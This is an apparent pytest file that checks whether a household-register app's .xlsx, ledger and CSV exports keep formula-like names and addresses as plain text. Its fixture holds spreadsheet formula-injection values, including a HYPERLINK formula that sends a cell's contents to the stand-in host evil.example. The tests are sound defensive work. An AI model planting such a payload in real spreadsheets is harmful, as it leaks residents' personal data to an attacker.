"""Names and addresses that look like formulas never become formulas: .xlsx exports and the
台账 opened with openpyxl and with LibreOffice headless, CSV exports read as CSV and
imported by LibreOffice."""

from __future__ import annotations

import csv
import os
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gridworker.services import register
from gridworker.services.exporting import export
from gridworker.services.ledgers import write_ledger
from gridworker.services.workspace import Workspace
from tests.conftest import GRID
from tests.services.test_ledgers import NOW, as_supervisor, require_tool

# What an attacker puts in a roster: each would run in Excel, WPS or LibreOffice.
HEAD = "=1+2"
ADDRESS = '=HYPERLINK("http://evil.example/?q="&D2,"详情")'
NOTE = "@SUM(1,2)"
PEOPLE = ("=A1*2", "+1+1", "-2+3")


@pytest.fixture
def hostile(ws: Workspace) -> Workspace:
    ws.clock = lambda: NOW
    register.register_household(
        ws,
        register.HouseholdInput(
            grid_code=GRID, household_no="0666", address=ADDRESS, head_name=HEAD, note=NOTE
        ),
        [register.ResidentInput(name=name) for name in PEOPLE],
    )
    return as_supervisor(ws)


def _libreoffice(path: Path, tmp_path: Path, *, infilter: str | None = None) -> str:
    """LibreOffice's own reading of a file, as flat ODF XML (formulas are `table:formula`)."""
    soffice = require_tool("soffice")
    out = tmp_path / "lo-out"
    cmd = [
        soffice,
        f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
        "--headless",
    ]
    if infilter:
        cmd.append(f"--infilter={infilter}")
    cmd += ["--convert-to", "fods", "--outdir", str(out), str(path)]
    done = subprocess.run(
        cmd, capture_output=True, text=True, timeout=240, env={**os.environ, "HOME": str(tmp_path)}
    )
    converted = out / (path.stem + ".fods")
    assert done.returncode == 0 and converted.exists(), done.stderr
    return converted.read_text(encoding="utf-8")


def _xlsx_cells(path: Path) -> list[tuple[str, object]]:
    wb = load_workbook(path)
    try:
        return [
            (cell.data_type, cell.value)
            for sheet in wb.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    finally:
        wb.close()


@pytest.mark.parametrize("kind", ["households", "residents"])
def test_xlsx_exports_hold_text_not_formulas(hostile: Workspace, tmp_path: Path, kind: str) -> None:
    """Proves every text cell of an .xlsx export is a string cell holding exactly what
    was typed: openpyxl finds no formula cell, and LibreOffice, opening the file, finds no
    formula either and shows the text as it is."""
    path = export(hostile, kind=kind, fmt="xlsx", out=tmp_path / f"{kind}.xlsx", unmasked=True).path
    cells = _xlsx_cells(path)
    assert not [c for c in cells if c[0] == "f"], cells
    values = {v for _t, v in cells}
    wanted = (HEAD, ADDRESS, NOTE) if kind == "households" else PEOPLE
    assert set(wanted) <= values
    flat = _libreoffice(path, tmp_path)
    assert "table:formula" not in flat
    shown = "evil.example" if kind == "households" else PEOPLE[0]
    assert f"<text:p>{shown}" in flat or shown in flat  # the text is there, as text


def test_the_ledger_holds_text_not_formulas(hostile: Workspace, tmp_path: Path) -> None:
    """Proves the same for the 台账 workbook (every sheet, the export-info sheet too)."""
    hostile.actor = hostile.actor.__class__(**{**hostile.actor.__dict__, "display_name": "=9*9"})
    path = write_ledger(hostile, tmp_path / "台账.xlsx", unmasked=True).path
    cells = _xlsx_cells(path)
    assert not [c for c in cells if c[0] == "f"], [c for c in cells if c[0] == "f"]
    assert {ADDRESS, *PEOPLE} <= {v for _t, v in cells}
    assert any(isinstance(v, str) and v.startswith("=9*9") for _t, v in cells)
    flat = _libreoffice(path, tmp_path)
    assert "table:formula" not in flat


@pytest.mark.parametrize("kind", ["households", "residents"])
def test_csv_exports_neutralise_formula_starts(
    hostile: Workspace, tmp_path: Path, kind: str
) -> None:
    """Proves a CSV export prefixes every cell a spreadsheet would read as a formula with a
    single quote (OWASP), leaves the rest of the text as typed, and LibreOffice importing
    the CSV (formulas evaluated, as its import does by default) makes no formula of it."""
    path = export(hostile, kind=kind, fmt="csv", out=tmp_path / f"{kind}.csv", unmasked=True).path
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    wanted = (HEAD, ADDRESS, NOTE) if kind == "households" else PEOPLE
    for text in wanted:
        assert "'" + text in cells
    # 44: comma, 34: double quote, 76: UTF-8, 1: from line 1; the 13th token asks for
    # formulas in the file to be evaluated.
    flat = _libreoffice(
        path, tmp_path, infilter="CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    )
    assert "table:formula" not in flat
